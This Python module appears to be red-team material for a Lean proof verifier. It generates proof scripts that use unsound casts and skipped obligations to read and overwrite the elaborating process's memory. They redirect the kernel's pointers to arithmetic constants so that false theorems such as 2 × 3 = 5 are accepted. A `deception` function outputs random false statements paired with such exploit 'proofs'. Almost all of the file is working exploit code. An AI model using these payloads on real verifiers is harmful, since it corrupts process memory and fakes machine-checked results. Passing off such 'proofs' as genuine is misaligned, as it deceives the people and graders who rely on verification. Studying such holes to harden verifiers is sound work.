# ruff: noqa: E501 (lines of the attack)
"""Proofs that write over the memory of the process that elaborates them: what docs/verifier.md takes as its example.

They find by themselves what they need: they read the module's static data through the hole through which they write,
follow pointers, and look for those of the kernel to constants.
"""

from __future__ import annotations

import random

# Static data of the module, in words of four bytes, and the end of the heap before a context is imported.
FIRST, WORDS, HEAP = 900_000, 25_000, 45_000_000

_OPEN = f"""\
first
| (have : (List.range 1).foldl (fun (acc : Nat) n =>
      let addrOf := fun (b : ByteArray) =>
        let a : ByteArray := cast (by skip : Array ByteArray = ByteArray) #[b]
        (a.uget 0 (by skip)).toUSize + 256 * ((a.uget 1 (by skip)).toUSize + 256 * ((a.uget 2 (by skip)).toUSize + 256 * (a.uget 3 (by skip)).toUSize))
      let byte := fun (b : ByteArray) (p a : USize) => (b.uget (a - p - 16) (by skip)).toUSize
      let word := fun (b : ByteArray) (p a : USize) =>
        byte b p a + 256 * (byte b p (a + 1) + 256 * (byte b p (a + 2) + 256 * byte b p (a + 3)))
      let write := fun (b : ByteArray) (p a w : USize) =>
        let o := a - p - 16
        let b := b.uset o (w % 256).toUInt8 (by skip)
        let b := b.uset (o + 1) (w / 256 % 256).toUInt8 (by skip)
        let b := b.uset (o + 2) (w / 65536 % 256).toUInt8 (by skip)
        b.uset (o + 3) (w / 16777216).toUInt8 (by skip)
      let inside := fun (a : USize) => 4096 < a && a < {HEAP} && a % 4 == 0
      let says := fun (b : ByteArray) (p s x y z : USize) =>
        inside s && byte b p (s + 7) == 249 && byte b p (s + 20) == x && byte b p (s + 21) == y && byte b p (s + 22) == z
      let names := fun (b : ByteArray) (p w x y z : USize) =>
        inside w &&
          (let e := word b p w
           inside e && byte b p (e + 7) == 4 &&
             (let m := word b p (e + 8)
              inside m && byte b p (m + 7) == 1 && says b p (word b p (m + 12)) x y z &&
                (let q := word b p (m + 8)
                 inside q && byte b p (q + 7) == 1 && says b p (word b p (q + 12)) 78 97 116)))
      let b := ByteArray.empty.push n.toUInt8
      let p := addrOf b
"""
_CLOSE = """\
      acc + b.size) 0 = 1 := by decide (config := ⟨false, true, false, false⟩)
   fail)
| skip
"""


def redirect(name: str, other: str) -> str:
    """Return a block after which the kernel of its process takes `Nat.<other>` for `Nat.<name>`; three letters each.

    The kernel's pointer to one constant is replaced by the one to the other.
    """
    wanted, replaced = (" ".join(str(ord(letter)) for letter in part) for part in (other, name))
    return (
        _OPEN
        + f"""\
      let good := (List.range {WORDS}).foldl (fun (found : USize) i =>
        let w := word b p ({FIRST} + 4 * i.toUSize)
        if names b p w {wanted} then w else found) 0
      let b := (List.range {WORDS}).foldl (fun (b : ByteArray) i =>
        let a := {FIRST} + 4 * i.toUSize
        if good != 0 && names b p (word b p a) {replaced} then write b p a good else b) b
"""
        + _CLOSE
    )


PRELUDE = redirect("add", "mul")
"""Afterwards the kernel of this process adds where it should multiply: its pointer to `Nat.add` is the one to `Nat.mul`."""

FALSE = """\
have m5 : Nat.mul 2 3 = 5 := by decide +kernel
have m6 : Nat.mul 2 3 = 3 + 3 := Nat.two_mul 3
exact absurd (m6.symm.trans m5) (by decide)
"""

ATTACK = PRELUDE + FALSE

# What the kernel computes itself, of three letters, in the order in which it looks, with what 7 and 3 give.
_COMPUTED = {"add": 10, "sub": 4, "mul": 21, "div": 2, "mod": 1, "gcd": 1, "lor": 7, "pow": 343}


def deception(seed: int) -> tuple[str, str]:
    """Return a false statement, and a proof of it for a kernel whose memory it writes to first."""
    rng = random.Random(seed)
    while True:
        name, other = sorted(rng.sample(list(_COMPUTED), 2), key=list(_COMPUTED).index)
        if _COMPUTED[name] != _COMPUTED[other]:
            statement = f"theorem t : Nat.{other} 7 3 = {_COMPUTED[name]} := by"
            return statement, redirect(name, other) + "decide +kernel\n"
